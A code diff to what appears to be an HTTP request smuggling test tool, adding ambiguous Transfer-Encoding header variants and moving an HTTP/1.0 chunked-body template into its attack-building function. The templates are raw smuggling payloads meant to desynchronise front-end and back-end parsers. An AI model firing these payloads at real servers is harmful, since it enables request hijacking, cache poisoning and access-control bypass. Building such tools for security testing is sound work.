@@ -40,6 +40,8 @@ LENGTH_HEADERS = {
 CODING_HEADERS = {
     "coding-xchunked": b"Transfer-Encoding: xchunked\r\n",
     "coding-then-identity": b"Transfer-Encoding: chunked, identity\r\n",
+    "coding-after-identity": b"Transfer-Encoding: identity, chunked\r\n",
+    "coding-after-gzip": b"Transfer-Encoding: gzip, chunked\r\n",
     "coding-list-of-two": b"Transfer-Encoding: chunked, chunked\r\n",
     "coding-twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
     "coding-vertical-tab": b"Transfer-Encoding:\vchunked\r\n",
@@ -104,6 +106,9 @@ def build_attacks(inner: bytes, headers: bytes) -> dict[str, bytes]:
     templates |= {name: post + added + b"\r\n0\r\n\r\n<INNER>" for name, added in CODING_HEADERS.items()}
     templates |= {name: post + chunked + b"\r\n" + body for name, body in CHUNKS.items()}
     templates |= {name: line + headers + b"\r\n<INNER>" for name, line in LINES.items()}
+    templates["chunked-in-1.0"] = (
+        post.replace(b"/1.1", b"/1.0") + b"Connection: keep-alive\r\n" + chunked + b"\r\n0\r\n\r\n<INNER>"
+    )
     return {name: _fill(template, inner) for name, template in templates.items()}
 
 
@@ -113,7 +118,6 @@ def build_closing(inner: bytes, headers: bytes) -> dict[str, bytes]:
     templates = {name: post + added + b"\r\n<INNER>" for name, added in CLOSING.items()}
     templates["connect"] = b"CONNECT a:80 HTTP/1.1\r\n" + headers + b"\r\n<INNER>"
     templates["connect-with-body"] = b"CONNECT a:80 HTTP/1.1\r\n" + headers + b"Content-Length: <N>\r\n\r\n<INNER>"
-    templates["chunked-in-1.0"] = post.replace(b"/1.1", b"/1.0") + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n<INNER>"
     templates["no-keep-alive-in-1.0"] = post.replace(b"/1.1", b"/1.0") + b"\r\n<INNER>"
     for name, zeros in {"20-zeros": 20, "3000-zeros": 3000}.items():
         templates[f"length-{name}"] = post + b"Content-Length: " + b"0" * zeros + b"<N>\r\n\r\n<INNER>"
